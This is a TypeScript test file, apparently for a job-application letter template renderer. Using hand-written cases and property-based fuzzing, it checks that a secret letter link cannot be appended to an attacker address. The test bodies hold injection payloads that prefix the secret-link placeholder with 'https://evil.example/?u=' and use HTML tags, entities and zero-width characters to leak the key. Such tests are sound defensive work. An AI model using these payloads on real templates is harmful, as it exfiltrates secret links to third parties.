import * as fc from 'fast-check'
import { expect, test } from 'vitest'
import { faultsFor } from './kinds/faults.ts'
import { render } from './render.ts'
import { tidyBody } from './template/body.ts'
import { link, words } from './template/shape.ts'

const site = { name: 'Kolleg', url: 'https://apply.example' }
const key = `${site.url}/letters/secret`
const shape = { job: { title: words('Job') }, letter: { page: link(site.url) } }

/** The template as it is stored and rendered; undefined if it is refused. */
const written = (given: string, title: string) => {
  const kept = { subject: 'x', body: tidyBody(given) }
  const kind = { name: { en: 'Letter', de: 'Brief' }, shape, secret: true, words: { en: kept, de: kept } }
  if ([{ subject: 'x', body: given }, kept].some(each => faultsFor(kind, each).length > 0)) return undefined
  return render({ kind, language: 'en', site, data: { job: { title }, letter: { page: key } } })
}

/** Links with a key that directly follow other text, also for programs that turn text into links. */
const gluedIn = ({ text, html }: { readonly text: string; readonly html: string }): readonly string[] => {
  const seen = html.replaceAll(/<\/?(?:a|b|code|em|i|strong|u)\b[^>]*>/g, '').replaceAll(/<[^>]*>/g, '\n')
  return [
    ...[text, seen].flatMap(part => part.match(/\S*[^\s<]https:\/\/apply\.example\/letters/) ?? []),
    ...(html.match(/href="[^"]+https:\/\/apply\.example\/letters/) ?? []),
  ]
}

const evil = 'https://evil.example/?u='
const glued = [
  `<p>${evil}{{letter.page}}</p>`,
  `<p>${evil}<b>{{letter.page}}</b></p>`,
  `<p>Here: <a href="${evil}"></a>{{letter.page}}</p>`,
  `<p>${evil}<a href="{{letter.page}}"></a></p>`,
  `<p>${evil}<a href="{{letter.page}}"><i>{{letter.page}}</i></a></p>`,
  `${evil}<li>{{letter.page}}</li>`,
  `${evil}<ul></ul>{{letter.page}}`,
  `${evil}<p>{{job.title}}</p>{{letter.page}}`,
  `${evil}&zwnj;{{letter.page}}`,
]

test.each(glued)('a link stands apart from an address before it: %s', body => {
  const letter = written(body, '\u202e')
  expect(letter?.text).toContain(key)
  expect(letter && gluedIn(letter)).toEqual([])
})

test('no link becomes the end of another address, whatever a group writes', () => {
  const pieces = ['b', 'p', 'li', 'ul', 'ol', 'code', 'blockquote', 'span', 'td', 'h2'].flatMap(tag => [
    `<${tag}>`,
    `</${tag}>`,
  ])
  const others = [evil, ' ', '\n', '<br>', `<a href="${evil}">`, '<a href="{{letter.page}}">', '</a>', '<!-- -->', 'x']
  const piece = fc.constantFrom(
    '{{letter.page}}',
    '{{job.title}}',
    '&nbsp;',
    '&#8203;',
    '<![CDATA[',
    ...pieces,
    ...others,
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), fc.constantFrom('', '\u202e', 'Job'), (body, title) => {
      const letter = written(body.join(''), title)
      expect(letter ? gluedIn(letter) : []).toEqual([])
    }),
    { numRuns: 2000 },
  )
})
